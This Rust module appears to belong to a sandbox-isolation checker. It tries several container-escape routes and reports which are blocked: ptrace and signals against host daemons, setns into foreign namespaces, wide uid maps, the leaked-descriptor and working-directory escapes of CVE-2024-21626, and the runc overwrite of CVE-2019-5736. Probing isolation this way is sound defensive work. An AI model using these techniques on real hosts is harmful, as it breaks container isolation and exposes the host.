//! Namespaces and processes that are not the container's.

use std::{
    fs::{self, File},
    os::{
        fd::{AsRawFd, OwnedFd},
        unix::fs::{FileExt, MetadataExt},
    },
    path::Path,
};

use crate::{
    attempt::{At, Blocked, Outcome, any, wait},
    sys,
};

/// Names of the VM's own processes, cut off as the kernel does.
const OF_THE_VM: [&str; 6] = ["dockerd", "containerd", "bulkhead-init", "bulkhead-gate", "kthreadd", "containerd-shim"];

/// Processes in `/proc`, with their names.
fn processes() -> Vec<(i32, String)> {
    let parse = |entry: fs::DirEntry| {
        let pid = entry.file_name().to_str()?.parse().ok()?;
        let name = fs::read_to_string(entry.path().join("comm")).ok()?;
        Some((pid, name.trim_end().to_owned()))
    };
    fs::read_dir("/proc").into_iter().flatten().flatten().filter_map(parse).collect()
}

fn of_the_vm() -> Result<Vec<(i32, String)>, Blocked> {
    let found: Vec<_> = processes().into_iter().filter(|(_, name)| OF_THE_VM.contains(&name.as_str())).collect();
    if found.is_empty() { Err(Blocked::Refused("none of the VM's processes can be seen".into())) } else { Ok(found) }
}

/// Signals to, and a hold on, processes of the VM.
pub(crate) fn foreign_processes() -> Outcome {
    any(of_the_vm()?.into_iter().flat_map(|(pid, name)| {
        // PTRACE_SEIZE does not stop the other; the hold ends with this process.
        const SEIZE: i32 = 0x4206;
        [
            sys::call(libc::SYS_kill, &[&pid, &0]).at("kill").map(|_| format!("could signal {name}")),
            sys::call(libc::SYS_ptrace, &[&SEIZE, &pid, &0, &0]).at("ptrace").map(|_| format!("held {name}")),
        ]
    }))
}

/// The VM's files through the root of one of its processes.
pub(crate) fn foreign_roots() -> Outcome {
    any(of_the_vm()?.into_iter().map(|(pid, name)| {
        let path = format!("/proc/{pid}/root/run/bulkhead");
        fs::read_dir(&path).at(&path).map(|_| format!("looked into the VM through {name}"))
    }))
}

/// setns(2) into namespaces of the VM, and what a namespace's parents and owners give away.
pub(crate) fn foreign_namespaces() -> Outcome {
    const NS_GET_USERNS: u64 = 0xb701;
    const NS_GET_PARENT: u64 = 0xb702;
    let mut ways = Vec::new();
    let own = |kind: &str| fs::metadata(format!("/proc/self/ns/{kind}")).map_or(0, |file| file.ino());
    for kind in ["user", "pid", "mnt", "net"] {
        for request in [NS_GET_USERNS, NS_GET_PARENT] {
            let namespace = File::open(format!("/proc/self/ns/{kind}")).at("open a namespace")?;
            let above = sys::open_call(libc::SYS_ioctl, &[&namespace.as_raw_fd(), &request]);
            ways.push(above.at(&format!("above {kind}")).and_then(|above| {
                let file = File::from(above);
                if file.metadata().at("stat")?.ino() == own("user") {
                    return Err(Blocked::Refused(format!("the owner of {kind} is the container's own")));
                }
                join(file.into(), &format!("above {kind}"))
            }));
        }
    }
    for (pid, name) in processes() {
        for kind in ["mnt", "net", "pid", "user", "ipc", "uts"] {
            let path = format!("/proc/{pid}/ns/{kind}");
            if fs::metadata(&path).is_ok_and(|file| file.ino() == own(kind)) {
                continue;
            }
            if let Ok(namespace) = File::open(&path) {
                ways.push(join(namespace.into(), &format!("{kind} of {name}")));
            }
        }
    }
    any(ways)
}

fn join(namespace: OwnedFd, whose: &str) -> Outcome {
    sys::call(libc::SYS_setns, &[&namespace.as_raw_fd(), &0]).at(whose).map(|_| format!("joined {whose}"))
}

/// A user namespace with more ids than the container has.
pub(crate) fn wide_id_map() -> Outcome {
    // SAFETY: this process has one thread; the child only waits.
    let child = unsafe { libc::fork() };
    if child == 0 {
        if sys::unshare(libc::CLONE_NEWUSER).is_ok() {
            // SAFETY: takes an integer.
            unsafe { libc::sleep(5) };
        }
        // SAFETY: ends the child without the parent's exit handlers.
        unsafe { libc::_exit(0) };
    }
    std::thread::sleep(std::time::Duration::from_millis(500));
    let map = |text: &str| fs::write(format!("/proc/{child}/uid_map"), text).at(&format!("map {}", text.trim_end()));
    let tried = any(["0 0 4294967295\n", "0 0 65537\n", "0 100000 65536\n"]
        .map(|text| map(text).map(|()| format!("mapped {text}"))));
    // SAFETY: takes integers; the child is ours.
    unsafe { libc::kill(child, libc::SIGKILL) };
    wait(child);
    tried
}

/// Descriptors that came from the runtime (CVE-2024-21626).
pub(crate) fn descriptors() -> Outcome {
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc/self/fd").at("/proc/self/fd")?.flatten() {
        let number = entry.file_name().to_string_lossy().parse::<i32>().unwrap_or(0);
        let target = fs::read_link(entry.path()).unwrap_or_default();
        // The directory that is being read, and the pipe to the process that prints.
        let ours = target.starts_with("/proc") || target.to_string_lossy().starts_with("pipe:");
        if number > 2 && !ours {
            found.push(format!("{number} is {}", target.display()));
        }
    }
    if found.is_empty() { Err(Blocked::Refused("only the standard streams".into())) } else { Ok(found.join(" ")) }
}

/// A working directory that is not below the container's root (CVE-2024-21626).
pub(crate) fn working_directory() -> Outcome {
    let identity = |path: &Path| fs::metadata(path).map(|file| (file.dev(), file.ino()));
    let root = identity(Path::new("/")).at("/")?;
    let mut path = std::path::PathBuf::from(".");
    let mut last = identity(&path).at(".")?;
    for _ in 0..64 {
        path.push("..");
        let above = identity(&path).at("..")?;
        if above == root {
            return Err(Blocked::Refused("it is below the root".into()));
        }
        if above == last {
            let names: Vec<_> = fs::read_dir(&path)
                .into_iter()
                .flatten()
                .flatten()
                .take(8)
                .map(|entry| entry.file_name().to_string_lossy().into_owned())
                .collect();
            return Ok(format!("its root has {}", names.join(" ")));
        }
        last = above;
    }
    Err(Blocked::Refused("too deep".into()))
}

/// Waits for the runtime to enter the container and writes to its program (CVE-2019-5736).
pub(crate) fn overwrite_runtime(seconds: u64) -> Outcome {
    let until = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
    let (mut seen, mut why) = (std::collections::BTreeSet::new(), String::new());
    while std::time::Instant::now() < until {
        for (pid, _) in processes() {
            let path = format!("/proc/{pid}/exe");
            let Ok(target) = fs::read_link(&path) else { continue };
            let name = target.to_string_lossy().into_owned();
            if target == own || !(name.contains("runc") || name.contains("crun") || name.contains("memfd")) {
                continue;
            }
            seen.insert(name.clone());
            let Ok(held) = sys::open_call(libc::SYS_openat, &[&libc::AT_FDCWD, &&sys::c(&path)?, &libc::O_PATH]) else {
                continue;
            };
            let again = format!("/proc/self/fd/{}", held.as_raw_fd());
            for _ in 0..2000 {
                match File::options().write(true).open(&again) {
                    // The first byte of any program stands for the rest. A sealed copy can be opened, but not written.
                    Ok(file) => match file.write_at(b"\x7f", 0) {
                        Ok(_) => return Ok(format!("{name} was written")),
                        Err(error) => why = format!("opened, but {error}"),
                    },
                    Err(error) => why = error.to_string(),
                }
                if !why.contains("busy") {
                    break;
                }
            }
        }
    }
    let seen: Vec<_> = seen.into_iter().collect();
    Err(Blocked::Refused(format!("seen: [{}] {why}", seen.join(" "))))
}
